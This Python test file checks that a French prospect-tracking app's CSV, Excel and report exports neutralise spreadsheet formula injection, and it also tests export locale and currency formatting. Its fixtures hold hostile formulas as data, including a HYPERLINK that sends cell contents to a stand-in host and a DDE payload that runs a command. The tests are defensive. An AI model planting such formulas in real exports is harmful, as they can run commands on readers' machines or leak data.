"""Exports that cannot attack their reader: formula injection (issue 13), every path."""

from __future__ import annotations

import base64
import csv
import io
import re

import openpyxl
import pandas as pd
import pytest

from prospects import db, exports, reports
from prospects.api import open_firm
from prospects.cli import main
from prospects.dashboard import Dashboard
from prospects.sample import sample_firm

TODAY = "2026-11-29"
HYPERLINK = '=HYPERLINK("http://x?"&A1,"Click")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = (HYPERLINK, DDE, "+33 1 23 45 67 89", "-2+3", "@SUM(A1:A9)", "\tTab", "\rRetour")


@pytest.fixture(scope="module")
def hostile_url(tmp_path_factory):
    """Cabinet Exemple whose prospect, deal, document and mission texts are formulas."""
    tables = sample_firm()
    deals, docs, lines = tables["deals"], tables["documents"], tables["document_lines"]
    deals.loc[deals["id"] == "D1", ["name", "prospect_name"]] = [DDE, HYPERLINK]
    deals.loc[deals["id"] == "D7", "prospect_name"] = "@SUM(A1:A9)"
    docs.loc[docs["id"] == "X1", ["title", "template"]] = ["-2+3", "\tTab"]
    docs.loc[docs["id"] == "X9", "doc_type"] = "+33 1 23 45 67 89"
    lines.loc[lines["document_id"] == "X1", "mission"] = "\rRetour"
    tables["org_units"].loc[tables["org_units"]["id"] == "T1", "name"] = "=1+1"
    url = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'hostile.db'}"
    db.replace_all(db.make_engine(url), tables)
    return url


def _every_text_cell_is_a_string(book: openpyxl.Workbook) -> list:
    """All cell values of a workbook, asserting no cell is a formula."""
    values = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def _assert_csv_neutralised(text: str, sep: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=sep))
    for row in rows:
        for cell in row:
            assert not cell.startswith(exports.FORMULA_TRIGGERS), cell
    flat = [c for r in rows for c in r]
    assert "'" + HYPERLINK in flat and "'" + DDE in flat and "'@SUM(A1:A9)" in flat
    return rows


def test_cli_drilldown_csv_and_xlsx_write_formulas_as_text(capsys, hostile_url, tmp_path):
    args = ["--db", hostile_url, "--today", TODAY, "drilldown", "--user", "dir", "--unit", "F", "--indicator", "signed_budget",
            "--by", "document"]
    assert main([*args, "--format", "csv"]) == 0
    rows = _assert_csv_neutralised(capsys.readouterr().out, ";")
    head = rows[0]
    x1 = next(r for r in rows if r[0] == "X1")
    assert x1[head.index("Titre")] == "'-2+3" and x1[head.index("Modèle")] == "'\tTab"
    assert x1[head.index("Total (€)")] == "14500,00"  # numbers untouched (two decimals)
    assert main([*args, "--format", "csv", "--output", str(tmp_path / "d.csv")]) == 0
    _assert_csv_neutralised((tmp_path / "d.csv").read_text("utf-8-sig"), ";")
    target = tmp_path / "d.xlsx"
    assert main([*args, "--format", "xlsx", "--output", str(target)]) == 0
    capsys.readouterr()
    book = openpyxl.load_workbook(target)
    values = _every_text_cell_is_a_string(book)
    assert HYPERLINK in values and DDE in values and "-2+3" in values  # the text, verbatim
    sheet = book["Par document"]
    head = [c.value for c in sheet[1]]
    x1 = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "X1")
    prospect = x1[head.index("Prospect")]
    assert (prospect.value, prospect.data_type, prospect.quotePrefix) == (HYPERLINK, "s", True)
    assert x1[head.index("Total (€)")].data_type == "n" and x1[head.index("Total (€)")].value == 14500
    mission = next(r for r in book["Lignes"].iter_rows(min_row=2) if r[0].value == "X1")[1]
    # the leading CR is kept as Excel's own escape (Excel shows a carriage return; openpyxl reads the escape)
    assert (mission.value, mission.data_type) == ("_x000D_Retour", "s")


def test_dashboard_downloads_write_formulas_as_text(hostile_url):
    board = Dashboard(open_firm(hostile_url, today=TODAY), "dir")
    board.region.value = "F"
    board.open_cell("signed_budget")
    for by in ("deal", "document"):
        board.drill_by.value = by
        links = board.drill_downloads.value
        payload = re.search(r'class="pr-download-csv"[^>]*base64,([^"]+)"', links).group(1)
        _assert_csv_neutralised(base64.b64decode(payload).decode("utf-8"), ";")
        payload = re.search(r'class="pr-download-xlsx"[^>]*base64,([^"]+)"', links).group(1)
        values = _every_text_cell_is_a_string(openpyxl.load_workbook(io.BytesIO(base64.b64decode(payload))))
        assert HYPERLINK in values and DDE in values


def test_report_tables_mark_formula_like_text_as_text_for_excel(hostile_url):
    rep = reports.build("dir", "R1", today=TODAY, db_url=hostile_url)
    page = str(rep.top_offers())
    # the client and the deal share a cell (the client named once): it starts with the formula
    cell = re.search(r"<td([^>]*)>=HYPERLINK\(&quot;http://x\?&quot;&amp;A1,&quot;Click&quot;\) — =cmd[^<]*</td>", page)
    assert cell and " style=\"mso-number-format:'\\@'\"" in cell.group(1)
    cell = re.search(r"<td([^>]*)>@SUM\(A1:A9\) — Juridique Eta</td>", page)
    assert cell and " style=\"mso-number-format:'\\@'\"" in cell.group(1)
    assert '<td class="pr-clip" title="Paul Associé">Paul Associé</td>' in page  # ordinary text unchanged


def test_negative_numbers_stay_numbers_and_text_that_looks_like_one_is_neutralised():
    frame = pd.DataFrame({
        "text": pd.Series(["-5", "ok", None, HYPERLINK], dtype=object),
        "amount": [-12.5, 0.0, 3.25, -1.0],
        "count": pd.Series([-1, 2, 3, 4], dtype="int64"),
        "str_dtype": pd.Series(["=1+1", "a", "b", "+c"], dtype="str"),
    })
    out = exports.neutralised(frame)
    assert out["text"].tolist() == ["'-5", "ok", None, "'" + HYPERLINK]
    assert out["str_dtype"].tolist() == ["'=1+1", "a", "b", "'+c"]
    assert out["amount"].tolist() == [-12.5, 0.0, 3.25, -1.0] and out["count"].tolist() == [-1, 2, 3, 4]
    import xlsxwriter

    buf = io.BytesIO()
    book = xlsxwriter.Workbook(buf, {"strings_to_formulas": False})
    exports.write_sheet(book, frame, "S")
    book.close()
    sheet = openpyxl.load_workbook(io.BytesIO(buf.getvalue()))["S"]
    rows = list(sheet.iter_rows(min_row=2))
    assert [(r[1].value, r[1].data_type) for r in rows] == [(-12.5, "n"), (0, "n"), (3.25, "n"), (-1, "n")]
    assert [(r[2].value, r[2].data_type) for r in rows] == [(-1, "n"), (2, "n"), (3, "n"), (4, "n")]
    assert (rows[0][0].value, rows[0][0].data_type) == ("-5", "s")
    assert (rows[0][3].value, rows[0][3].data_type) == ("=1+1", "s")


def test_the_canonical_export_is_verbatim_it_must_round_trip(capsys, hostile_url, tmp_path):
    """`prospects export` is the documented exception: the extract reloads identically."""
    assert main(["--db", hostile_url, "export", str(tmp_path / "out")]) == 0
    capsys.readouterr()
    deals = pd.read_csv(tmp_path / "out" / "deals.csv", dtype=str, keep_default_na=False)
    assert deals.loc[deals["id"] == "D1", "prospect_name"].item() == HYPERLINK


# ---------------------------------------------------------------------------
# Spreadsheets a person can use at once (issue 19.5): the on-screen order, typed and
# formatted Excel cells, French values, consistent CSV decimals.

import datetime as dt  # noqa: E402

from openpyxl.utils import get_column_letter  # noqa: E402

from prospects import drilldown, i18n  # noqa: E402


@pytest.fixture(scope="module")
def director(sample_url):
    return open_firm(sample_url, today=TODAY).as_viewer("dir")


def _signed_by_document(director):
    rows = director._drill_rows("signed_budget", by="document", unit="F")
    return rows, director.with_lines(rows.frame())


@pytest.mark.parametrize("locale", ["fr", "en"])
def test_excel_cells_are_typed_formatted_filtered_and_in_the_screen_order(director, locale):
    rows, frame = _signed_by_document(director)
    order = rows.order("total", False)  # the dashboard's current sort: largest total first
    book = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(frame, "document", locale, currency="EUR", order=order)))
    sheet = book["Par document" if locale == "fr" else "By document"]
    labels = i18n.column_labels(locale, "EUR")
    shown = drilldown.display_columns("document")
    head = [c.value for c in sheet[1]]
    assert head == [labels[c] for c in shown]  # the on-screen order, lines on their own sheet
    body = list(sheet.iter_rows(min_row=2))
    assert [r[0].value for r in body] == ["X1", "X2", "X9", "X13"]  # 14 500, 3 000, 800, 200 €
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{get_column_letter(len(head))}{len(body) + 1}"
    x1 = dict(zip(shown, body[0], strict=True))
    money = i18n.excel_money_format(locale, "EUR")
    assert money == ('#,##0.00"\u202f€"' if locale == "fr" else '"€"#,##0.00')
    for c in ("recurring", "one_off", "total"):
        assert x1[c].data_type == "n" and x1[c].number_format == money
    assert (x1["total"].value, x1["recurring"].value, x1["one_off"].value) == (14500, 12000, 2500)
    for c, day in (("created_on", dt.datetime(2026, 2, 5)), ("sent_on", dt.datetime(2026, 2, 10)),
                   ("decided_on", dt.datetime(2026, 3, 15))):
        assert x1[c].is_date and x1[c].value == day
        assert x1[c].number_format == ("dd/mm/yyyy" if locale == "fr" else "yyyy-mm-dd")
    x2 = dict(zip(shown, body[1], strict=True))
    assert x2["sent_on"].value is None  # no date: an empty cell, not a text
    assert x1["status"].value == ("Signée" if locale == "fr" else "Signed")
    for j, name in enumerate(head, start=1):
        width = sheet.column_dimensions[get_column_letter(j)].width
        assert len(name) <= width <= 60, (name, width)
    widest = max(len(str(r[head.index(labels["template"])].value or "")) for r in body)
    assert sheet.column_dimensions[get_column_letter(head.index(labels["template"]) + 1)].width >= widest
    lines = book["Lignes" if locale == "fr" else "Lines"]
    assert lines.freeze_panes == "A2" and lines.auto_filter.ref.startswith("A1:")
    line_rows = list(lines.iter_rows(min_row=2))
    assert [r[0].value for r in line_rows][:2] == ["X1", "X1"]  # the documents' order
    billing = {r[2].value for r in line_rows}
    assert billing == ({"Récurrent", "Exceptionnel"} if locale == "fr" else {"Recurring", "One-off"})
    assert all(r[3].data_type == "n" and r[3].number_format == money for r in line_rows)


def test_a_prospect_without_document_exports_its_history_as_dates_and_french_words(director, tmp_path):
    frame = director.drilldown("prospects_without_document", by="deal", unit="F")
    about = exports.about_rows("prospects_without_document", "deal", period=director.period(), locale="fr")
    target = tmp_path / "p.xlsx"
    exports.to_xlsx(frame, "deal", target, "fr", currency="EUR", about=about)
    book = openpyxl.load_workbook(target)
    sheet = book["Par affaire"]
    head = [c.value for c in sheet[1]]
    assert head[:7] == ["Id affaire", "Affaire", "Prospect", "Affaire créée le", "Dernière décision",
                        "Date de la dernière décision", "Documents"]
    created = sheet.cell(row=2, column=4)
    assert created.is_date and created.value == dt.datetime(2026, 6, 1) and created.number_format == "dd/mm/yyyy"
    facts = {r[0].value: r[1].value for r in book["À propos"].iter_rows()}
    assert facts["Chiffre"] == "Prospect sans document"
    assert facts["Montants"] == drilldown.footer_words("prospects_without_document", locale="fr")
    assert facts["Devise"] == "euro (EUR)"
    assert facts["Période"] == "01/01/2026 → 29/11/2026"


@pytest.mark.parametrize("locale", ["fr", "en"])
def test_csv_decimals_are_the_same_everywhere_in_a_file(director, locale):
    rows, frame = _signed_by_document(director)
    text = exports.to_csv(frame, "document", locale, currency="EUR", order=rows.order("total", False))
    sep = ";" if locale == "fr" else ","
    table = list(csv.reader(io.StringIO(text), delimiter=sep))
    head, body = table[0], table[1:]
    labels = i18n.column_labels(locale, "EUR")
    assert head == [labels[c] for c in drilldown.display_columns("document")] + [labels["lines"]]
    assert [r[0] for r in body] == ["X1", "X2", "X9", "X13"]
    x1 = dict(zip(head, body[0], strict=True))
    if locale == "fr":
        assert (x1["Total (€)"], x1["Récurrent (€)"], x1["Exceptionnel (€)"]) == ("14500,00", "12000,00", "2500,00")
        assert x1["Lignes"] == "Commissariat aux comptes (récurrent) 12000,00; Commissariat aux comptes (exceptionnel) 2500,00"
        assert x1["Statut"] == "Signée" and x1["Décidé le"] == "2026-03-15"
    else:
        assert (x1["Total (€)"], x1["Recurring (€)"]) == ("14500.00", "12000.00")
        assert x1["Lines"] == "Commissariat aux comptes (recurring) 12000.00; Commissariat aux comptes (one-off) 2500.00"
    # every amount of the file, in its own cells and inside the lines' text, has the same decimal mark
    mark = "," if locale == "fr" else "."
    amounts = [f for r in body for f in r if re.fullmatch(r"-?\d+[.,]\d+", f)]
    amounts += [a for r in body for a in re.findall(r"\) (-?\d+[.,]\d+)", r[-1])]
    assert len(amounts) == 4 * 3 + 5 and all(a[-3] == mark and len(a.split(mark)[1]) == 2 for a in amounts)


# ---------------------------------------------------------------------------
# the firm's currency (issue 21, point 6): headers, decimals and Excel formats follow it


@pytest.mark.parametrize(
    ("currency", "locale", "head", "total", "line", "excel"),
    [
        ("EUR", "fr", "Total (€)", "14500,00", "(récurrent) 12000,00", '#,##0.00"\u202f€"'),
        ("USD", "fr", "Total ($US)", "14500,00", "(récurrent) 12000,00", '#,##0.00"\u202f$US"'),
        ("USD", "en", "Total ($)", "14500.00", "(recurring) 12000.00", '"$"#,##0.00'),
        ("CHF", "en", "Total (CHF)", "14500.00", "(recurring) 12000.00", '"CHF\u00a0"#,##0.00'),
        ("CHF", "fr", "Total (CHF)", "14500,00", "(récurrent) 12000,00", '#,##0.00"\u202fCHF"'),
        # yen have no minor unit: the _cents columns hold whole yen, shown without decimals
        ("JPY", "en", "Total (¥)", "1450000", "(recurring) 1200000", '"¥"#,##0'),
        ("JPY", "fr", "Total (JPY)", "1450000", "(récurrent) 1200000", '#,##0"\u202fJPY"'),
    ],
)
def test_csv_and_excel_follow_the_firms_currency(director, currency, locale, head, total, line, excel):
    rows, frame = _signed_by_document(director)
    order = rows.order("total", False)
    sep = ";" if locale == "fr" else ","
    table = list(csv.reader(io.StringIO(exports.to_csv(frame, "document", locale, currency=currency, order=order)),
                           delimiter=sep))
    x1 = dict(zip(table[0], table[1], strict=True))
    assert x1[head] == total  # X1: 1,450,000 minor units
    assert line in x1["Lignes" if locale == "fr" else "Lines"]
    book = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(frame, "document", locale, currency=currency, order=order)))
    sheet = book["Par document" if locale == "fr" else "By document"]
    heads = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=heads.index(head) + 1)
    assert cell.number_format == excel and cell.value == float(total.replace(",", "."))
    lines = book["Lignes" if locale == "fr" else "Lines"]
    amount = [c.value for c in lines[1]][-1]
    assert amount.endswith(f"({i18n.currency_symbol(locale, currency)})") and lines.cell(row=2, column=4).number_format == excel
    about = exports.about_rows("signed_budget", "document", locale=locale, currency=currency)
    book = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(frame, "document", locale, currency=currency, about=about)))
    facts = {r[0].value: r[1].value for r in book["À propos" if locale == "fr" else "About"].iter_rows()}
    named = {("EUR", "fr"): "euro (EUR)", ("USD", "fr"): "dollar des États-Unis (USD)", ("USD", "en"): "US Dollar (USD)",
             ("CHF", "en"): "Swiss Franc (CHF)", ("CHF", "fr"): "franc suisse (CHF)", ("JPY", "en"): "Japanese Yen (JPY)",
             ("JPY", "fr"): "yen japonais (JPY)"}[currency, locale]
    assert facts["Devise" if locale == "fr" else "Currency"] == named  # the About sheet names the currency
